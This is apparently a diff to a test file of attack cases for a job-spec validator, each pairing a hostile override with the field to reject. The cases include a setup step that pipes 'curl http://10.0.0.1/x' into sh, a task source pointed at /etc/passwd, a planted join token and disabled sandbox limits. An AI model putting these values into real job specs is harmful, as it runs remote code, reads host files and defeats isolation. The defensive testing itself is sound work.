@@ -17,7 +17,7 @@ ATTACKS = [
     ({"sandbox": {"env": {"ROLLOUTD_JOIN_TOKEN": "x"}}}, "spec.sandbox.env.ROLLOUTD_JOIN_TOKEN"),
     ({"executor": {"slurm": {"setup": ["curl http://10.0.0.1/x | sh"]}}}, "spec.executor.slurm.setup"),
     ({"executor": {"nodes": 16}}, "spec.executor.nodes"),
-    ({"tasks": {"source": "/srv/team-b/private.jsonl"}}, "spec.tasks.source"),
+    ({"tasks": {"source": "/etc/passwd"}}, "spec.tasks.source"),  # a host file (it exists: the admin may apply it)
     ({"sandbox": {"limits": {"cpus": None}}}, "spec.sandbox.limits.cpus"),  # a bound turned off
     ({"sandbox": {"limits": {"workspaceMB": None}}}, "spec.sandbox.limits.workspaceMB"),
     ({"sandbox": {"limits": {"memoryMB": 65536}}}, "spec.sandbox.limits.memoryMB"),
